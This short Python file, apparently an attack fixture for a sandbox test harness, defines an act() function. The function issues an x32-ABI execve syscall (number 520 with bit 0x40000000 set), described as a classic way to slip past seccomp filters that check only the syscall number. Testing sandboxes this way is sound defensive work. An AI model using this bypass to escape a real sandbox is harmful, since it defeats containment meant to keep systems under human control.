"""Attack: an x32-ABI system call (number | 0x40000000), a classic seccomp-filter bypass."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def act(observation):
    # x32 execve; a filter that checked only the number would not recognise it.
    return {"result": libc.syscall(ctypes.c_long(0x40000000 | 520), 0, 0, 0)}
